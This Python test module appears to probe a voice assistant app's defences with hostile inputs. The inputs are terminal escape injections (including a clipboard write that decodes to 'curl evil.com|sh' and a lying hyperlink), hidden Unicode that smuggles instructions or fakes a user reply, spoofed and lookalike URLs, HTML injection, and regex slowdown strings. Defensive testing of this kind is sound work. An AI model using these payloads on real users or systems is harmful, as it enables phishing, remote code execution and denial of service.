"""Attacks on what is shown and said: the terminal, the privacy sign, addresses, and texts that are slow to read."""

import io
import json
from collections.abc import Callable, Mapping
from dataclasses import replace
from typing import Any

from tests.linear.measure import too_slow
from voicegui.app.choices import routes
from voicegui.core.addresses import Reach, deceives, plain_address, reach, shown_host, spoken_host
from voicegui.core.approval import question_about
from voicegui.core.errors import ErrorCode, VoiceError
from voicegui.core.events import Noticed
from voicegui.core.privacy import DataFlow
from voicegui.core.settings import Settings
from voicegui.core.text.sanitiser import tip
from voicegui.core.text.sentences import SentenceSplitter
from voicegui.core.text.spoken_text import speakable
from voicegui.core.tools import ToolCall, ToolInfo
from voicegui.providers.openai.service import checked_url
from voicegui.terminal.json_events import Journal
from voicegui.terminal.output import Screen, indented
from voicegui.ui.paragraphs import paragraphs
from voicegui.ui.transcript_entries import Kind, LogEntry

from .probe import Probe

# ---------------------------------------------------------------- the terminal

ESCAPES: Mapping[str, str] = {
    "cursor movement over the question": "Shall I delete everything?\x1b[1A\x1b[2K Shall I help?",
    "a carriage return over the question": "Shall I delete everything?\rShall I help you?        ",
    "backspaces over the question": "delete\b\b\b\b\b\bassist",
    "the title of the window": "\x1b]0;root@server\x07",
    "a link that lies": "\x1b]8;;https://evil.com\x1b\\https://good.com\x1b]8;;\x1b\\",
    "the clipboard of the terminal": "\x1b]52;c;Y3VybCBldmlsLmNvbXxzaA==\x07",
    "an escape of C1": "\x9b2J\x9d0;x\x9c",
    "a device control string": "\x1bP+q544e\x1b\\",
    "text from right to left": "\u202ehs.live\u202c",
    "letters without width": "go\u200bod\u2060",
    "invisible tags": "ok" + "".join(chr(0xE0000 + ord(letter)) for letter in "obey"),
    "half a character": "\udcff and \ud83d",
    "lines of their own": "a\u2028You: yes\u2029b\x85c\x0bd\x0c",
}


def _on_screen(text: str) -> Callable[[], list[str]]:
    def run() -> list[str]:
        raw = io.StringIO()
        print(indented(text), file=Screen(raw))
        shown = raw.getvalue()
        bad = {character for character in text if not (character.isprintable() or character == "\n")}
        found = [f"U+{ord(character):04X} reached the terminal" for character in sorted(bad & set(shown))]
        journal = io.StringIO()
        Journal(journal, 0.0).receive(Noticed(text))
        Journal(journal, 0.0).error(VoiceError(ErrorCode.BAD_ANSWER, text))
        lines = journal.getvalue().splitlines()
        if not journal.getvalue().isascii() or len(lines) != 2 or json.loads(lines[0])["message"] != text:
            found.append("JSON that is none, or other words")
        return found

    return run


def _second_speaker() -> list[str]:
    raw = io.StringIO()
    print(f"Agent: {indented('Done.' + chr(10) + 'You:   Yes, delete it.')}", file=Screen(raw))
    return [line for line in raw.getvalue().splitlines() if line.startswith("You:")]


# ---------------------------------------------------------------- the privacy sign


def _sign(**changes: Any) -> Callable[[], list[str]]:
    def run() -> list[str]:
        where = DataFlow(routes(replace(Settings(), **changes)))
        return [f"{where.sign} with {where.lines}"] if where.reach is Reach.HERE or where.icon == "lock" else []

    return run


def _url(address: str) -> Callable[[], list[str]]:
    """It must not count as this machine, and if it can be used, be used as what it really is."""

    def run() -> list[str]:
        found = [f"{address} is “{reach(address)}”"] if reach(address) is Reach.HERE else []
        try:
            used = checked_url(address)
        except VoiceError:
            return found
        return found + ([f"used as {used}, on this machine"] if reach(used) is Reach.HERE else [])

    return run


AWAY = (
    "http://localhost.evil.com/v1", "http://127.0.0.1.nip.io/v1", "http://localhost@evil.com/v1",
    "http://evil.com#@localhost",
    "http://localhost\\@evil.com/v1", "http://localhost%2eevil.com/v1", "http://localhоst/v1",
    "http://127.0.0.1。evil.com/v1",
    "http://0x08080808/v1", "http://[64:ff9b::7f00:1]/v1", "http://localhost:80@evil.com/v1",
)  # fmt: skip

# ---------------------------------------------------------------- addresses

LIES = (
    "https://аpple.com/login", "https://good.com⁄login.evil.com", "https://good.com@evil.com",
    "https://xn--pple-43d.com",
    "https://good。com", "https://good.com%2eevil.com", "https://good.com:443@evil.com:8443",
    r"https://evil.com\@good.com",
    "https://" + "accounts.google.com." * 9 + "evil.com", "http://0x5db8d822",
)  # fmt: skip


def _lie(address: str) -> Callable[[], list[str]]:
    def run() -> list[str]:
        found = [] if deceives(address) else ["not marked"]
        entry = LogEntry(1, Kind.AGENT, 1, f"Go to [the bank]({address}) or {address} now.")
        pieces = [piece for paragraph in paragraphs(entry).paragraphs for piece in paragraph.pieces]
        marks = [piece.text for piece in pieces if "⚠" in piece.text]
        links = [piece.link for piece in pieces if piece.link]  # where each leads: Markdown reads "\\@" as "@"
        told = [f" ⚠ {shown_host(link)}" for link in links if deceives(link) or link != plain_address(link)]
        if any(mark not in marks for mark in told) or len(marks) > len(links):
            found.append(f"the transcript shows {marks} for {links}")
        tool = ToolInfo("open_url", "", question="Shall I open {url}?")
        question = question_about(tool, ToolCall("1", "open_url", json.dumps({"url": address})))
        warned = "unusual" in question.text and shown_host(address) in question.text
        if question.by_voice and not warned:  # what is too long to be heard is read on the card
            found.append(question.text)
        if not speakable(f"Go to {address} now").startswith(f"Go to {spoken_host(address)}"):
            found.append(speakable(address))
        opened = plain_address(address)
        if "@" in opened.split("/")[2] or not opened.isascii() or "%2e" in opened:
            found.append(f"opens {opened}")
        return found

    return run


# ---------------------------------------------------------------- markup


def _markup(text: str) -> Callable[[], list[str]]:
    def run() -> list[str]:
        shown = tip(text)
        body = shown.removeprefix("<p style='white-space: pre-wrap'>").removesuffix("</p>")
        return [shown] if "<" in body else []

    return run


MARKUP = ("<b>Allowed by the system</b>", "<img src='file:///etc/passwd'>", "<a href='http://evil.com'>x</a>",
          "<?xml?><b>", "a &lt;b&gt; <i>", "</p><img src=x>")  # fmt: skip

# ---------------------------------------------------------------- time


def _slow(read: Callable[[str], object], make: Callable[[int], str]) -> Callable[[], list[str]]:
    return lambda: ["more than in proportion"] if too_slow(read, make(25_000), make(100_000)) else []


def _sentences(text: str) -> None:
    splitter = SentenceSplitter()
    for at in range(0, len(text), 50):
        list(splitter.feed(text[at : at + 50]))


PROBES: tuple[Probe, ...] = (
    *(Probe(f"{name}", "terminal", _on_screen(text)) for name, text in ESCAPES.items()),
    Probe("an answer that speaks for the person", "terminal", _second_speaker),
    Probe("Ollama at a remote address", "privacy sign", _sign(llm="ollama", llm_url="https://gpu.example.com/v1")),
    Probe("only hearing and speaking leave", "privacy sign", _sign(stt="openai", tts="openai")),
    Probe("only speaking leaves", "privacy sign", _sign(tts="groq")),
    Probe("a server without an address", "privacy sign", _sign(llm="custom")),
    Probe("a provider nobody knows", "privacy sign", _sign(tts="somebody")),
    Probe("a server in the network", "privacy sign", _sign(llm="ollama", llm_url="http://192.168.1.5:11434/v1")),
    *(Probe(f"{address} as this machine", "privacy sign", _url(address)) for address in AWAY),
    *(Probe(f"{address[:60]} as another", "address", _lie(address)) for address in LIES),
    *(Probe(f"{text} in a name", "tooltip", _markup(text)) for text in MARKUP),
    Probe("spaces, pipes and x", "time", _slow(speakable, lambda n: " " * (n // 2) + "|" * (n // 2) + "x")),
    Probe("tokens of 16 dots", "time", _slow(_sentences, lambda n: ("." * 16) * (n // 16))),
    Probe("openings of links", "time", _slow(speakable, lambda n: "[a](" * (n // 4))),
    Probe("openings of tags", "time", _slow(speakable, lambda n: "<a" * (n // 2))),
    Probe("stars that never pair", "time", _slow(speakable, lambda n: "*a " * (n // 3))),
    Probe("code that never ends", "time", _slow(_sentences, lambda n: "```" + "a" * n)),
    Probe("abbreviations without end", "time", _slow(_sentences, lambda n: "mr. " * (n // 4))),
)
